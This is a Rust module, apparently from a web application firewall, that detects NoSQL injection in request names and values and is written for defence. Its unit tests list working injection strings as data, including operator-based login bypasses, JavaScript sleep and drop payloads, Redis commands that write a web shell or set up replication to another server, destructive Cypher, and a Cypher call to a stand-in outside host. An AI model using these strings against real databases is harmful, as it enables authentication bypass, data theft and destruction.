//! NoSQL: operators in names and values, server-side functions, commands of key-value stores, graph queries.
//!
//! **In:** a decoded value, or a name. **Out:** hits of class `nosql`.
//! **Invariant:** look-ahead and look-behind are bounded by constants; each list is tried only where its mark stands.
//! **Source:** the operator references of MongoDB, CouchDB (Mango), Sequelize and Hasura, the manuals of Redis, Neo4j and
//! Cassandra.
//! **Cost:** a pass over the marks (`$`, `.`, line ends) of values that have them and a word of these languages.

use super::super::inspection::Place;
use super::super::places::{Places, Set};
use super::bytes::{
    self, AMP, DOLLAR, PAREN, SHELL, byte, has_at, is_space, is_word, part, rest, skip_space,
};
use super::nosql_stores::{calls, commands, graph, stored};
use super::triggers::{NOSQL, STORE, STORE_CALL};
use super::words::{Key, Words};
use super::{Class, Hits, Strength, View};

/// Words of scripts and of operators in objects.
pub(super) const WORDS: &[&[u8]] = &[
    b"this",
    b"return",
    b"unwind",
    b"_source",
    b"_all_docs",
    b"var",
    b"while",
    b"mapreduce",
    b"_eq",
    b"_neq",
    b"_gt",
    b"_gte",
    b"_lt",
    b"_lte",
    b"_nin",
    b"_like",
    b"_ilike",
    b"_regex",
    b"_iregex",
    b"_is_null",
    b"_similar",
];

/// Operators that compare, choose or compute. `$set`, `$type`, `$ref`, `$date`, `$filter` are names that others use too.
const OPERATORS: [&[u8]; 37] = [
    b"ne",
    b"gt",
    b"gte",
    b"lt",
    b"lte",
    b"in",
    b"nin",
    b"eq",
    b"regex",
    b"where",
    b"exists",
    b"or",
    b"and",
    b"nor",
    b"not",
    b"expr",
    b"elemmatch",
    b"mod",
    b"all",
    b"text",
    b"options",
    b"comment",
    b"function",
    b"accumulator",
    b"jsonschema",
    b"like",
    b"notlike",
    b"ilike",
    b"between",
    b"startswith",
    b"regexp",
    b"geowithin",
    b"near",
    b"lookup",
    b"unionwith",
    b"allmatch",
    b"keymapmatch",
];

#[expect(
    clippy::indexing_slicing,
    reason = "runs while compiling: a fault is a build error"
)]
static TABLE: Words<128> = {
    let mut table = Words::empty();
    let mut index = 0;
    while index < OPERATORS.len() {
        table = table.with(&[(OPERATORS[index], 1)]);
        index += 1;
    }
    table
};

/// Bytes of an operator that are read.
const LONGEST: usize = 16;

/// How far an operator may be in a value that says something else before: a sentence about it is no attack.
const NEAR: usize = 64;

/// Scans one value.
pub(super) fn scan(view: &View<'_>, steps: &mut u64, hits: &mut Hits) {
    if view.classes & DOLLAR != 0 {
        super::spend(steps, view.bytes.len());
        operators(view, steps, hits);
    }
    if view.words & (NOSQL | STORE_CALL | STORE) == 0 || hits.is_decisive(Class::Nosql) {
        return;
    }
    if view.classes & (SHELL | AMP) != 0
        && let Some(at) = script(view.bytes)
    {
        hits.add(Class::Nosql, Strength::Decisive, at);
        return;
    }
    if view.classes & PAREN != 0 {
        if view.words & STORE_CALL != 0 || view.classes & DOLLAR != 0 {
            super::spend(steps, view.bytes.len().saturating_mul(32));
            calls(view.bytes, hits);
        }
        compared(view.bytes, hits);
    }
    if let Some((strength, at)) = graph(view, steps) {
        hits.add(Class::Nosql, strength, at);
    }
    if stored(view) {
        hits.add(Class::Nosql, Strength::Decisive, 0);
    }
    if view.words & STORE != 0 {
        super::spend(steps, view.bytes.len().saturating_mul(4));
        commands(view, hits);
    }
}

/// The end of the operator behind the `$` at `at`.
fn operator(value: &[u8], at: usize) -> Option<usize> {
    let from = at.saturating_add(1);
    if !byte(value, from).is_ascii_alphabetic() {
        return None;
    }
    let mut key = Key::EMPTY;
    let mut length = 0_usize;
    for &letter in part(value, from, LONGEST) {
        let letter = bytes::folded(letter);
        if letter == 0 {
            break;
        }
        key.push_folded(letter);
        length = length.wrapping_add(1);
    }
    (TABLE.kind(key) != 0).then(|| from.saturating_add(length))
}

static DOLLARS: Set = Set::of(b"$");

/// `$op` as a key, in brackets, or as a member of an object literal.
fn operators(view: &View<'_>, steps: &mut u64, hits: &mut Hits) {
    let value = view.bytes;
    let first = byte(value, skip_space(value, 0));
    let mut at = 0_usize;
    let mut dollars = Places::of(value, &DOLLARS);
    while let Some(dollar) = dollars.from(at) {
        at = dollar;
        super::spend(steps, 4);
        if let Some(end) = operator(value, at)
            && let Some(strength) = used(view, at, end, first)
        {
            hits.add(Class::Nosql, strength, at);
            if strength == Strength::Decisive {
                return;
            }
        }
        at = at.saturating_add(1);
    }
}

/// `first`: the first byte of the value that is no blank.
fn used(view: &View<'_>, at: usize, end: usize, first: u8) -> Option<Strength> {
    let value = view.bytes;
    let before = at.checked_sub(1).map_or(0, |before| byte(value, before));
    // `user[$ne]`; `$list[$in]` is PHP.
    if before == b'[' && byte(value, end) == b']' {
        let bracket = at.saturating_sub(1);
        let name = value
            .get(bracket.saturating_sub(NEAR)..bracket)
            .unwrap_or(&[]);
        let own = name
            .iter()
            .rev()
            .take_while(|&&byte| is_word(byte) || matches!(byte, b'$' | b'>' | b'-'));
        let php = own.fold(0, |_, &byte| byte) == b'$';
        return (!php).then_some(Strength::Decisive);
    }
    if view.is_name {
        // JSON Schema has `$comment` in every second file; a query does nothing with it.
        if has_at(value, at, b"$comment") {
            return None;
        }
        // A key of a JSON object, the whole of it, or the last part of a path.
        let whole = (at == 0 || before == b'.') && end == value.len();
        // Beside a field in a parameter, the operand decides: `where={"age":{"$gt":5}}`.
        let beside = view.place == Place::Query && is_bound(value, at, end);
        return whole.then_some(if beside {
            Strength::Suspicious
        } else {
            Strength::Decisive
        });
    }
    member(value, at, end, first)
}

/// Whether the operator from `at` to `end` is one that a page of results is asked for with.
fn is_bound(value: &[u8], at: usize, end: usize) -> bool {
    let name = value.get(at.saturating_add(1)..end).unwrap_or(&[]);
    [&b"gt"[..], b"gte", b"lt", b"lte", b"eq", b"in"]
        .iter()
        .any(|known| known.eq_ignore_ascii_case(name))
}

/// `{ $ne: 1 }`, `', $where: '1'`. GraphQL's `($where: Filter)` declares a variable.
fn member(value: &[u8], at: usize, end: usize, first: u8) -> Option<Strength> {
    let quoted = matches!(byte(value, end), b'"' | b'\'');
    if quoted && has_at(value, at, b"$comment") {
        return None;
    }
    let colon = skip_space(
        value.get(..end.saturating_add(NEAR)).unwrap_or(value),
        end.saturating_add(usize::from(quoted)),
    );
    if byte(value, colon) != b':' {
        return None;
    }
    let window = value.get(..colon.saturating_add(NEAR)).unwrap_or(value);
    let mut operand = skip_space(window, colon.saturating_add(1));
    if byte(value, operand) == b'[' {
        operand = skip_space(window, operand.saturating_add(1));
    }
    let literal = match byte(value, operand) {
        head if head.is_ascii_alphabetic() => [
            &b"true"[..],
            b"false",
            b"null",
            b"function",
            b"this",
            b"new ",
            b"sleep(",
            b"undefined",
            b"db.",
        ]
        .iter()
        .any(|word| rest(value, operand).starts_with(word)),
        0 => colon.saturating_add(1) >= value.len(),
        b'$' | b'!' => false,
        _ => true,
    };
    if !literal {
        return None;
    }
    let mut left = value
        .get(at.saturating_sub(NEAR)..at)
        .unwrap_or(&[])
        .iter()
        .rev()
        .skip_while(|&&byte| is_space(byte) || matches!(byte, b'"' | b'\''));
    let joins = matches!(left.next(), None | Some(b'{' | b',' | b'['));
    if !joins {
        return Some(Strength::Weak);
    }
    let object = matches!(first, b'{' | b'[' | b'\'' | b'"' | b',' | b'$');
    // `{"age": {"$gt": 5}}`: a filter that a page of results takes.
    let bound = is_bound(value, at, end);
    let number = byte(value, operand).is_ascii_digit();
    let nested = value
        .get(at.saturating_sub(NEAR)..at)
        .unwrap_or(&[])
        .contains(&b':');
    if bound && number && nested {
        return Some(Strength::Suspicious);
    }
    Some(if object || at < NEAR {
        Strength::Decisive
    } else {
        Strength::Suspicious
    })
}

/// Bytes of the literal that a script fragment leaves.
const LITERAL: usize = 24;

/// `';return true;`, `0;while(1){}`, `' || this.password`: script behind a literal that the value ends.
fn script(value: &[u8]) -> Option<usize> {
    let window = value.get(..NEAR).unwrap_or(value);
    let word = bytes::tally(
        window
            .iter()
            .take(LITERAL)
            .take_while(|&&byte| is_word(byte) || matches!(byte, b'.' | b'-' | b'@' | b'/')),
    );
    let closing = bytes::tally(
        rest(window, word)
            .iter()
            .take(4)
            .take_while(|byte| matches!(byte, b'\'' | b'"' | b'`' | b')' | b'}' | b']' | b' ')),
    );
    let at = skip_space(window, word.saturating_add(closing));
    let after = skip_space(window, at.saturating_add(1));
    if byte(window, at) == b';' {
        return statement(value, after).then_some(after);
    }
    let joint = byte(window, at);
    if matches!(joint, b'|' | b'&') && byte(window, at.saturating_add(1)) == joint {
        let operand = skip_space(window, at.saturating_add(2));
        let used = [&b"this."[..], b"this[", b"db.", b"sleep(", b"function("];
        return used
            .iter()
            .any(|word| rest(value, operand).starts_with(word))
            .then_some(operand);
    }
    None
}

/// Whether a statement of a script starts at `at`.
fn statement(value: &[u8], at: usize) -> bool {
    let text = rest(value, at);
    if text.starts_with(b"return") {
        let bracket = byte(value, at.saturating_add(6));
        let operand = skip_space(
            value.get(..at.saturating_add(NEAR)).unwrap_or(value),
            at.saturating_add(6),
        );
        let given = rest(value, operand);
        return !is_word(bracket)
            && (matches!(
                given.first(),
                Some(b'(' | b'!' | b'\'' | b'"' | b'{' | b';' | b'0'..=b'9')
            ) || [&b"true"[..], b"false", b"this", b"db.", b"null", b"new "]
                .iter()
                .any(|word| given.starts_with(word)));
    }
    if text.starts_with(b"var ") {
        let name = bytes::tally(
            rest(value, at.saturating_add(4))
                .iter()
                .take(LITERAL)
                .take_while(|&&byte| is_word(byte) || byte == b'$'),
        );
        let end = at.saturating_add(4).saturating_add(name);
        let window = value.get(..end.saturating_add(4)).unwrap_or(value);
        return name > 0 && byte(value, skip_space(window, end)) == b'=';
    }
    [
        &b"while("[..],
        b"while (",
        b"do{",
        b"do {",
        b"for(",
        b"sleep(",
        b"db.",
        b"this.",
        b"throw ",
        b"emit(",
    ]
    .iter()
    .any(|word| text.starts_with(word))
}

/// `{"_neq": ""}` where a plain value belongs.
fn compared(value: &[u8], hits: &mut Hits) {
    let start = skip_space(value, 0);
    if byte(value, start) != b'{' {
        return;
    }
    let window = value.get(..start.saturating_add(NEAR)).unwrap_or(value);
    let mut name = skip_space(window, start.saturating_add(1));
    let quoted = matches!(byte(value, name), b'"' | b'\'');
    name = name.saturating_add(usize::from(quoted));
    let length = bytes::tally(
        rest(value, name)
            .iter()
            .take(12)
            .take_while(|&&byte| is_word(byte)),
    );
    let end = name.saturating_add(length);
    let known = value.get(name..end).is_some_and(|name| {
        name.first() == Some(&b'_') && WORDS.iter().any(|word| word.eq_ignore_ascii_case(name))
    });
    let colon = skip_space(window, end.saturating_add(usize::from(quoted)));
    if known && byte(value, colon) == b':' {
        hits.add(Class::Nosql, Strength::Decisive, name);
    }
}

#[cfg(test)]
mod tests {
    use super::super::hits_of;
    use super::*;

    fn caught(value: &str) -> bool {
        hits_of(value.as_bytes()).contains(&(Class::Nosql, Strength::Decisive))
    }

    fn name_caught(name: &str) -> bool {
        let bytes = name.as_bytes();
        let mut view = View::new(Place::Body, bytes, bytes, bytes::classes(bytes));
        view.is_name = true;
        let mut hits = Hits::default();
        scan(&view, &mut crate::budget::MAX_STEPS.clone(), &mut hits);
        hits.is_decisive(Class::Nosql)
    }

    #[test]
    fn operators_in_names_are_caught() {
        for name in [
            "user[$ne]",
            "pass[$regex]",
            "login[$nin][]",
            "filter[user][$gt]",
            "$where",
            "$or",
            "user.$ne",
            "q[$NE]",
        ] {
            assert!(name_caught(name), "{name}");
        }
        for name in [
            "$schema",
            "$ref",
            "$comment",
            "definitions.address.$comment",
            "$type",
            "$date",
            "$oid",
            "$filter",
            "$top",
            "$set",
            "$$hashKey",
            "price_$",
            "items[0]",
            "created[gte]",
            "$notes",
            "$order",
            "$limit",
        ] {
            assert!(!name_caught(name), "{name}");
        }
    }

    #[test]
    fn a_comment_of_a_schema_is_no_operator() {
        let value = "{\"type\": \"object\", \"$comment\": \"why\"}";
        assert!(!hits_of(value.as_bytes()).contains(&(Class::Nosql, Strength::Decisive)));
    }

    #[test]
    fn calls_and_commands_are_found_by_their_own_words() {
        for value in [
            "x;return $db.users.find({})",
            "(printjson(db.a))",
            "a (redis.pcall('a'))",
            "a\r\nCONFIG SET dir /var/www",
            "' CALL dbms.procedures()",
            "'\nslaveof 192.0.2.1 6379",
        ] {
            assert!(caught(value), "{value}");
        }
    }

    #[test]
    fn operators_and_scripts_in_values_are_caught() {
        for value in [
            "{\"$gt\": \"\"}",
            "{$ne: null}",
            "[$ne]=1",
            "true, $where: 'sleep(9)'",
            "', $or: [ {}, { 'a':'a",
            "' } ], $comment:'x'",
            "$where: function() { return 1 }",
            "{\"username\": {\"$in\": [\"root\", \"admin\"]}}",
            "';return true;var a='",
            "0;return 1",
            "\";return(this.a);var b='",
            "';while(1){}'",
            ";var d = new Date(); do{c = new Date();}while(c-d<9000)",
            "' || this.role == 'admin",
            "' && this.password.match(/.*/)//",
            "12||this.owner",
            "db.users.insert({a:1})",
            "db.getCollectionNames()",
            "';db.users.drop();//",
            "x'+tojson(this)+'",
            "a\r\nFLUSHALL\r\n",
            "a\r\nSLAVEOF 10.0.0.1 6379\r\n",
            "config set dbfilename shell.php",
            "eval \"redis.call('keys','*')\" 0",
            "' OR 1=1 CALL db.labels() YIELD label LOAD CSV FROM 'http://e.example/' AS l RETURN 0 //",
            "'}) MATCH (n) DETACH DELETE n //",
            "bob' ALLOW FILTERING; --",
            "{_neq: \"\"}",
            "{\"_is_null\": false}",
            "' RETURN 1 UNION MATCH (n) RETURN n//",
            "x'}) RETURN n //",
            "' UNWIND [1] AS x CREATE (:A)//",
            "ctx._source.role='admin'",
            "_all_docs?limit=9",
        ] {
            assert!(caught(value), "{value}");
        }
    }

    #[test]
    fn prices_templates_and_code_are_let_through() {
        for value in [
            "$5.00",
            "US$ 40",
            "${name}",
            "$name, $where did you go",
            "{\"$schema\": \"https://json-schema.org/draft/2020-12/schema\"}",
            "{\"$ref\": \"#/definitions/a\"}",
            "query ($where: UserWhere!, $in: [Int]) { users(where: $where) { id } }",
            "query q($not: Boolean, $text: String = \"x\") { a }",
            "foreach ($list as $in) { echo $map[$in]; }",
            "$row[$all]",
            "Please return this; that is all",
            "home; return ticket",
            "if (a && this.b) { return c; }",
            "Save to db. Then find (again) the file",
            "the db.users table",
            "load csv files from disk",
            "allow filtering by date",
            "call db.example.org for help",
            "this & that; while stocks last",
            "{\"a\": {\"b\": 1}}",
            "flushall the toilets",
            "Tom && this",
            "{ _id: 5 }",
            "don't return http://",
            "MATCH (n) RETURN n",
            "what does ctx._source.x hold?",
            "it is _all_docs",
            "{\"status\":\"open\",\"qty\":{\"$gt\":5}}",
        ] {
            assert!(!caught(value), "{value}");
        }
    }
}
